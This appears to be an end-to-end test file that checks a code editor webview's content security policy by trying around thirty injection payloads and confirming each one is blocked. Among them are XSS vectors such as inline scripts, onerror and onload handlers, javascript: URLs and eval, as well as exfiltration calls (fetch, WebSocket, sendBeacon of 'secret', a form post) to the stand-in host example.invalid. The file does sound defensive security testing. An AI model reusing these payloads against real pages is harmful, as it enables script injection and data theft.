/** The content security policy of the panel's page, tried from within: as whoever got something of his into the page would. */
import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { Harness } from '../support/editor/harness.js';
import { journey } from '../support/editor/journey.js';
import { CLICKS } from './documents.js';

let harness: Harness;
before(async () => {
  harness = await Harness.start();
});
after(async () => {
  await harness.stop();
});

/** What somebody tries, and the directive that stands in his way. What would succeed sets `window.ran`, or leaves the machine. */
const ATTACKS: readonly (readonly [directive: string, code: string])[] = [
  ['script-src', `add('script', { textContent: 'window.ran = true' })`],
  ['script-src', `add('script', { textContent: 'window.ran = true', nonce: 'guessed' })`],
  ['script-src', `add('script', { src: 'data:text/javascript,window.ran=true' })`],
  ['script-src', `add('script', { src: URL.createObjectURL(new Blob(['window.ran = true'])) })`],
  ['script-src', `add('script', { src: 'https://example.invalid/x.js' })`],
  ['script-src', `add('script', { type: 'module', src: new URL('main.js', document.querySelector('script[src]').src).href.replace('main.js', 'other.js') })`],
  ['script-src', `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">')`],
  ['script-src', `document.body.insertAdjacentHTML('beforeend', '<svg onload="window.ran = true"><animate onbegin="window.ran = true" attributeName="x" dur="1s"/></svg>')`],
  ['script-src', `location.href = 'javascript:window.ran=true'`],
  ['script-src', `eval('window.ran = true')`],
  ['script-src', `new Function('window.ran = true')()`],
  ['script-src', `setTimeout('window.ran = true')`],
  ['script-src', `import('data:text/javascript,window.ran=true').catch(() => undefined)`],
  ['worker-src', `new Worker(URL.createObjectURL(new Blob(['1'])))`],
  ['style-src', `add('style', { textContent: 'body { display: none }' })`],
  ['style-src', `document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">x</p>')`],
  ['style-src', `add('link', { rel: 'stylesheet', href: 'https://example.invalid/x.css' })`],
  ['img-src', `add('img', { src: 'https://example.invalid/x.png' })`],
  ['font-src', `new FontFace('x', 'url(https://example.invalid/x.woff2)').load().catch(() => undefined)`],
  ['media-src', `add('video', { src: 'https://example.invalid/x.mp4' })`],
  ['object-src', `add('object', { data: 'https://example.invalid/x.swf' })`],
  ['frame-src', `add('iframe', { src: 'https://example.invalid/' })`],
  ['frame-src', `add('iframe', { src: 'data:text/html,<script>parent.ran=true</script>' })`],
  ['connect-src', `fetch('https://example.invalid/').catch(() => undefined)`],
  ['connect-src', `const request = new XMLHttpRequest(); request.open('GET', 'https://example.invalid/'); request.send()`],
  ['connect-src', `new WebSocket('wss://example.invalid/')`],
  ['connect-src', `new EventSource('https://example.invalid/')`],
  ['connect-src', `navigator.sendBeacon('https://example.invalid/', 'secret')`],
  ['base-uri', `add('base', { href: 'https://example.invalid/' })`],
];

/** Runs as a task of the page: what a driver evaluates may do more than the page's policy allows. */
const TRY = (code: string): string => `new Promise((resolve) => {
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  const told = ({ effectiveDirective }) => { done(effectiveDirective); };
  const done = (text) => {
    removeEventListener('securitypolicyviolation', told, true);
    clearTimeout(deadline);
    resolve(text);
  };
  const deadline = setTimeout(() => { done('nothing is in the way'); }, 10_000);
  addEventListener('securitypolicyviolation', told, true);
  setTimeout(() => { try { ${code} } catch { /* Refused; the event says by what. */ } }, 0);
})`;

journey('nothing but the page’s own script runs in it, nothing is fetched, and nothing leaves', () => harness, { files: { 'clicks.yaml': CLICKS } }, async (editor) => {
  await editor.openFile('clicks.yaml');
  await editor.goTo({ line: 1, column: 1 });
  await editor.runCommand('Flink Memory: Open Memory Model');
  const panel = await editor.webview('[data-keep=what-if]');
  // What the policy stops never comes this far.
  const outside: string[] = [];
  await editor.page.context().route(/example\.invalid/, async (route) => {
    outside.push(route.request().url());
    await route.abort();
  });
  const found: string[] = [];
  for (const [directive, code] of ATTACKS) {
    const stopped = String(await panel.evaluate(TRY(code)).catch((error: unknown) => error));
    if (!stopped.startsWith(directive)) found.push(`${code}: ${stopped}`);
    assert.ok(!stopped.includes('navigation'), found.join('\n'));
  }
  assert.deepEqual(found, []);
  assert.equal(await panel.evaluate('window.ran === true'), false);
  assert.notEqual(await panel.evaluate('getComputedStyle(document.body).display'), 'none');
  assert.equal(await panel.evaluate(`document.baseURI.includes('example.invalid')`), false);
  // A form would take its page along: the frame that the page stands in allows none.
  await panel.evaluate(`{
    const form = Object.assign(document.createElement('form'), { action: 'https://example.invalid/', method: 'post' });
    document.body.append(form);
    form.submit();
    undefined
  }`);
  // Still the page that it was.
  await panel.locator('[role=treeitem][data-pool=managed]').click();
  await panel.locator('[role=treeitem][data-pool=managed][aria-selected=true]').waitFor();
  assert.deepEqual(outside, []);
});
